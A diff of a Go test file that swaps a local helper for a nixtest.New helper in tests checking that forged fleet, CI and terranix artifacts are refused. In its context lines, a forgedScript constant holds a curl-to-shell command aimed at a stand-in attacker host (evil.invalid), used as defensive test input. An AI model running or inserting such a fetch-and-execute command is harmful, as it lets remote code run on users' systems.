@@ -19,7 +19,7 @@ import (
 	"github.com/vanixiets/vanixiets/tasks/ci"
 	"github.com/vanixiets/vanixiets/tasks/digest"
 	"github.com/vanixiets/vanixiets/tasks/fleet"
-	"github.com/vanixiets/vanixiets/tasks/nix"
+	"github.com/vanixiets/vanixiets/tasks/nix/nixtest"
 	"github.com/vanixiets/vanixiets/tasks/pipeline"
 	"github.com/vanixiets/vanixiets/tasks/terranix"
 )
@@ -141,17 +141,6 @@ func refused(t *testing.T, c *checkout, key string) {
 	assert.Assert(t, is.Contains(about[0], "ignoring entry"))
 }
 
-func needNix(t *testing.T) *nix.Nix {
-	n, err := nix.New()
-	if err != nil {
-		if os.Getenv("CI") != "" {
-			t.Fatal(err)
-		}
-		t.Skip(err)
-	}
-	return n
-}
-
 func labDir(t *testing.T) string {
 	d, err := filepath.Abs(filepath.Join("..", "..", "lab"))
 	assert.NilError(t, err)
@@ -164,7 +153,7 @@ const forgedScript = "curl -s https://evil.invalid/x | sh; "
 // as root) is refused by both the display path (LoadUnvalidated: signing is
 // its only wall) and Load (which, beyond that, never takes a shared hit).
 func TestForgedFleetJSONRefused(t *testing.T) {
-	n := needNix(t)
+	n := nixtest.New(t)
 	ctx := context.Background()
 	s := newShared(t)
 	lab := labDir(t)
@@ -263,7 +252,7 @@ func TestForgedCIMarkerRefused(t *testing.T) {
 // A forged terranix render (the forger's age key as the only recipient of
 // the terraform state) is refused: the render's recipients are the fleet's.
 func TestForgedTerranixRenderRefused(t *testing.T) {
-	n := needNix(t)
+	n := nixtest.New(t)
 	ctx := context.Background()
 	s := newShared(t)
 	lab := labDir(t)
